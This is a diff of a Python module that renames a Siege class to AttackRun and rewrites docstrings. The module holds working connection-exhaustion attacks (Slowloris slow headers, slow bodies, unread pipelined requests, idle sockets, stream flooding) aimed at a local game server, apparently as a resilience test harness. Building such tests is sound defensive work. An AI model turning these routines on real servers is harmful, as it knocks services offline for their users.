@@ -1,4 +1,4 @@
-"""Attacks by connections: they do not read, send a byte at a time, or just stay."""
+"""Attacks by connections that do not read, send a byte at a time, or stay idle."""
 
 import itertools
 import re
@@ -7,33 +7,33 @@ from collections.abc import Callable
 from contextlib import suppress
 
 from .browser import Broken
-from .target import Siege
+from .target import AttackRun
 
-_MOST_OPENED = 20_000  # connections in one attack, those opened anew with them
+_MOST_OPENED = 20_000  # connections in one attack, reopened ones included
 _UNFINISHED_BODY = 1_000_000
 
 
-def unread(siege: Siege, connections: int, requests: int = 256) -> None:
-    """Ask `requests` times for a script on each connection, at once, and read nothing of the answers."""
-    head = f"GET {_longest_script(siege)} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode() * requests
-    _hold(siege, connections, lambda number: head, lambda number: b"")
+def unread(run: AttackRun, connections: int, requests: int = 256) -> None:
+    """Pipeline `requests` requests for a script on each connection, and read no response."""
+    head = f"GET {_longest_script(run)} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode() * requests
+    _hold(run, connections, lambda number: head, lambda number: b"")
 
 
-def _longest_script(siege: Siege) -> str:
-    """Return the address of the longest script of the first page."""
-    with suppress(*Broken), siege.browser() as browser:
+def _longest_script(run: AttackRun) -> str:
+    """Return the URL of the home page's longest script."""
+    with suppress(*Broken), run.browser() as browser:
         scripts: list[str] = re.findall(r'<script src="([^"]+)"', browser.get("/").text)
         return max(scripts, key=lambda script: len(browser.get(script).body))
     return "/static/app.js"
 
 
-def slow_heads(siege: Siege, connections: int = 500) -> None:
-    """Send half a header, then a byte of it at a time."""
+def slow_heads(run: AttackRun, connections: int = 500) -> None:
+    """Send half a request head, then a byte at a time (Slowloris)."""
     begin = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
-    _hold(siege, connections, lambda number: begin, lambda number: b"a")
+    _hold(run, connections, lambda number: begin, lambda number: b"a")
 
 
-def slow_bodies(siege: Siege, connections: int = 500) -> None:
+def slow_bodies(run: AttackRun, connections: int = 500) -> None:
     """Announce a body, send half of it, then a byte at a time."""
 
     def begin(number: int) -> bytes:
@@ -41,11 +41,11 @@ def slow_bodies(siege: Siege, connections: int = 500) -> None:
         head = "POST /api/v1/games HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
         return f"{head}Content-Length: {length}\r\n\r\n".encode() + b" " * (length // 2)
 
-    _hold(siege, connections, begin, lambda number: b" ")
+    _hold(run, connections, begin, lambda number: b" ")
 
 
-def idle(siege: Siege, connections: int = 2_000) -> None:
-    """Open connections and say nothing on a third of them, half a head on another, half a body on the rest."""
+def idle(run: AttackRun, connections: int = 2_000) -> None:
+    """Keep connections idle: a third of them empty, a third with half a head, a third with half a body."""
     begins = itertools.cycle(
         [
             b"",
@@ -54,74 +54,74 @@ def idle(siege: Siege, connections: int = 2_000) -> None:
         ]
     )
     parts = list(itertools.islice(begins, connections))
-    _hold(siege, connections, lambda number: parts[number], lambda number: b"")
+    _hold(run, connections, lambda number: parts[number], lambda number: b"")
 
 
-def streams(siege: Siege, connections: int = 500) -> None:
-    """Listen to a game with all the connections of one address, and come back when turned away."""
-    _hold(siege, connections, _listening(siege), lambda number: b"", reads=True)
+def streams(run: AttackRun, connections: int = 500) -> None:
+    """Open streams of a game on all connections of one address, and reconnect when refused."""
+    _hold(run, connections, _listening(run), lambda number: b"", reads=True)
 
 
-def unread_streams(siege: Siege, connections: int = 100) -> None:
-    """Listen to a game without reading, asking for its board again and again on the same connection."""
-    listening = _listening(siege)
+def unread_streams(run: AttackRun, connections: int = 100) -> None:
+    """Open streams without reading them, and request the board repeatedly on the same connections."""
+    listening = _listening(run)
     board = listening(0).replace(b"/events", b"/board", 1)
-    _hold(siege, connections, lambda number: board * 50 + listening(number), lambda number: board)
+    _hold(run, connections, lambda number: board * 50 + listening(number), lambda number: board)
 
 
-def _listening(siege: Siege) -> Callable[[int], bytes]:
-    """Join the long game as a device, and return the request for its stream."""
+def _listening(run: AttackRun) -> Callable[[int], bytes]:
+    """Join the long game as a device; return a function that makes the request for its stream."""
     cookie = ""
-    with suppress(*Broken, RuntimeError, LookupError), siege.browser() as device:
-        device.join(siege.target.key)
+    with suppress(*Broken, RuntimeError, LookupError), run.browser() as device:
+        device.join(run.target.key)
         cookie = "; ".join(f"{name}={value}" for name, value in device.cookies.items())
-    path = f"/games/{siege.target.game_id}/events"
+    path = f"/games/{run.target.game_id}/events"
     return lambda number: f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: {cookie}\r\n\r\n".encode()
 
 
 def _hold(
-    siege: Siege,
+    run: AttackRun,
     connections: int,
     begin: Callable[[int], bytes],
     further: Callable[[int], bytes],
     *,
     reads: bool = False,
 ) -> None:
-    """Keep so many connections open: each sends `begin`, then `further` from time to time; a closed one comes back."""
+    """Keep `connections` connections open: each sends `begin`, then `further` repeatedly; closed ones are reopened."""
     opened = itertools.count()
     held: dict[int, socket.socket] = {}
-    while not siege.over and next(opened) < _MOST_OPENED:
+    while not run.over and next(opened) < _MOST_OPENED:
         for number in range(connections):
-            if siege.over:
+            if run.over:
                 break
             if number not in held and next(opened) < _MOST_OPENED:
-                _open(siege, held, number, begin(number))
+                _open(run, held, number, begin(number))
             elif number in held:
-                _go_on(siege, held, number, further(number), reads)
-        siege.count("held", len(held) - siege.answers["held"])
-        siege.pause(0.2)
+                _continue(run, held, number, further(number), reads)
+        run.count("held", len(held) - run.answers["held"])
+        run.pause(0.2)
     for connection in held.values():
         connection.close()
 
 
-def _open(siege: Siege, held: dict[int, socket.socket], number: int, sent: bytes) -> None:
+def _open(run: AttackRun, held: dict[int, socket.socket], number: int, sent: bytes) -> None:
     connection = socket.socket()
     connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
     connection.settimeout(0.5)
     try:
-        connection.bind((siege.target.source, 0))
-        connection.connect(("127.0.0.1", siege.target.port))
+        connection.bind((run.target.source, 0))
+        connection.connect(("127.0.0.1", run.target.port))
         connection.setblocking(False)
         with suppress(BlockingIOError):
             connection.send(sent)
         held[number] = connection
     except OSError as error:
         connection.close()
-        siege.count(type(error).__name__)
-        siege.pause(0.01)
+        run.count(type(error).__name__)
+        run.pause(0.01)
 
 
-def _go_on(siege: Siege, held: dict[int, socket.socket], number: int, sent: bytes, reads: bool) -> None:
+def _continue(run: AttackRun, held: dict[int, socket.socket], number: int, sent: bytes, reads: bool) -> None:
     connection = held[number]
     try:
         if sent:
@@ -135,16 +135,16 @@ def _go_on(siege: Siege, held: dict[int, socket.socket], number: int, sent: byte
     if closed:
         connection.close()
         del held[number]
-        siege.count("closed")
+        run.count("closed")
 
 
-def mixed(siege: Siege) -> list[Callable[[], None]]:
-    """Return smaller parts of all these attacks, to be run at once."""
+def mixed(run: AttackRun) -> list[Callable[[], None]]:
+    """Return smaller versions of all these attacks, to run at the same time."""
     return [
-        lambda: unread(siege, 20),
-        lambda: slow_heads(siege, 100),
-        lambda: slow_bodies(siege, 100),
-        lambda: idle(siege, 300),
-        lambda: streams(siege, 100),
-        lambda: unread_streams(siege, 20),
+        lambda: unread(run, 20),
+        lambda: slow_heads(run, 100),
+        lambda: slow_bodies(run, 100),
+        lambda: idle(run, 300),
+        lambda: streams(run, 100),
+        lambda: unread_streams(run, 20),
     ]
